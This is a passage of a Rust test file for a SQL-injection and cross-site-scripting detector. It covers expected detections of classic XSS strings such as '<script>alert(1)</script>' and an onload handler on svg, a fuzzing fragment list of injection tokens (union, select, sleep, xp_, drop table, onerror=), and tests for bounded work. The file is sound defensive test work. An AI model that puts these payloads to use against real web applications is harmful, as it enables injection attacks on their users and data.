        Some("sql injection: condition on constants (in '…', fingerprint s&1o1c)")
    );
    assert_eq!(
        xss("<svg/onload=alert(1)>").as_deref(),
        Some("xss: event handler onload on <svg> (text)")
    );
    assert_eq!(
        xss("<script>alert(1)</script>").as_deref(),
        Some("xss: tag <script> (text)")
    );
    assert_eq!(
        xss("javascript:alert(1)").as_deref(),
        Some("xss: script url in the value (\"attribute\")")
    );
    assert_eq!(
        Detector::Xss
            .detect(b"' onmouseover='alert(1)")
            .map(|d| d.to_string())
            .as_deref(),
        Some("xss: event handler onmouseover ('attribute')")
    );
}

#[test]
fn detector_names_round_trip() {
    for name in Detector::NAMES {
        let d = Detector::parse(name);
        assert_eq!(d.map(Detector::name), Some(*name));
    }
    assert_eq!(Detector::parse("SQLI"), None);
}

/// Pieces payloads are made of, to reach deep into both grammars.
const FRAGMENTS: &[&str] = &[
    "'",
    "\"",
    "`",
    " ",
    "\n",
    "(",
    ")",
    ",",
    ";",
    "--",
    "#",
    "/*",
    "*/",
    "/*!50000",
    "=",
    "<",
    ">",
    "!",
    "|",
    "||",
    "&",
    "&&",
    "@",
    "@@",
    "$",
    "$$",
    "\\",
    "1",
    "0x7e",
    "x",
    "or",
    "and",
    "union",
    "select",
    "from",
    "sleep(",
    "benchmark(",
    "waitfor",
    "delay",
    "order",
    "by",
    "exec",
    "xp_",
    "drop",
    "table",
    "null",
    "<script",
    "<img",
    "<svg",
    "src=",
    "onerror=",
    "javascript:",
    "&#",
    "&#x",
    "&colon;",
    ";",
    "<!--",
    "-->",
    "<!",
    "<?",
    "</",
    "style=",
    "expression(",
    "url(",
    "\\65",
    "\u{ff}",
    "\0",
];

fn fuzz_input(rng: &mut Rng, buf: &mut Vec<u8>) {
    buf.clear();
    let len = rng.below(64);
    match rng.below(3) {
        0 => buf.extend((0..len * 3).map(|_| rng.next() as u8)),
        1 => {
            for _ in 0..len {
                let f = FRAGMENTS[rng.below(FRAGMENTS.len())];
                buf.extend_from_slice(f.as_bytes());
            }
        }
        _ => {
            let seeds: Vec<&str> = SQLI_ATTACKS
                .iter()
                .map(|a| a.0)
                .chain(XSS_ATTACKS.iter().map(|a| a.0))
                .collect();
            buf.extend_from_slice(seeds[rng.below(seeds.len())].as_bytes());
            for _ in 0..rng.below(6) {
                let at = rng.below(buf.len() + 1);
                match rng.below(3) {
                    0 => buf.insert(at, rng.next() as u8),
                    1 if at < buf.len() => {
                        buf.remove(at);
                    }
                    _ => {
                        let f = FRAGMENTS[rng.below(FRAGMENTS.len())];
                        buf.splice(at..at, f.bytes());
                    }
                }
            }
        }
    }
}

#[test]
fn random_and_mutated_inputs_never_panic_and_stay_within_their_bounds() {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut buf = Vec::new();
    let mut flagged = 0;
    const ITERATIONS: usize = 30_000;
    for _ in 0..ITERATIONS {
        fuzz_input(&mut rng, &mut buf);
        flagged += usize::from(is_sqli(&buf).is_some());
        flagged += usize::from(is_xss(&buf).is_some());
        // Work is bounded by construction; check the bounds hold. An HTML
        // reading yields at most one event per byte (plus the tag end) …
        for context in [
            HtmlContext::Text,
            HtmlContext::UnquotedValue,
            HtmlContext::SingleQuotedValue,
            HtmlContext::DoubleQuotedValue,
        ] {
            let events = HtmlLexer::new(&buf, context).count();
            assert!(events <= buf.len() + 2, "{events} events from {buf:?}");
        }
        // … and a SQL reading never lexes past the cap.
        let mut toks = Tokens::new(&buf, Quote::Single, true);
        let last = toks.get(MAX_TOKENS + 10).kind;
        assert!(matches!(last, Kind::End | Kind::Cap));
        assert!(toks.count() <= MAX_TOKENS);
    }
    println!("fuzz: {ITERATIONS} inputs, {flagged} detections");
}

#[test]
fn huge_pathological_inputs_finish() {
    // Each would take minutes if any reading were quadratic in its length.
    const PATTERNS: &[&str] = &[
        "(", "'", "\"", "/**/", "/*", "-- \n", "1 or ", "UN/**/", "$a$", "\\", "@@", "<a ",
        "<a b='", "<!--", "&#", "&#x6a", "a=", "x:", "<", "on", "<scr", "\\65 ", "url(",
    ];
    for p in PATTERNS {
        let input = p.repeat((1 << 18) / p.len());
        let _ = is_sqli(input.as_bytes());
        let _ = is_xss(input.as_bytes());
    }
    // A payload at the very end of a huge value is still seen by XSS,
    // which reads everything; SQL looks at the first tokens only.
    let mut tail = "a ".repeat(1 << 17);
    tail.push_str("<script>");
    assert!(is_xss(tail.as_bytes()).is_some());
}
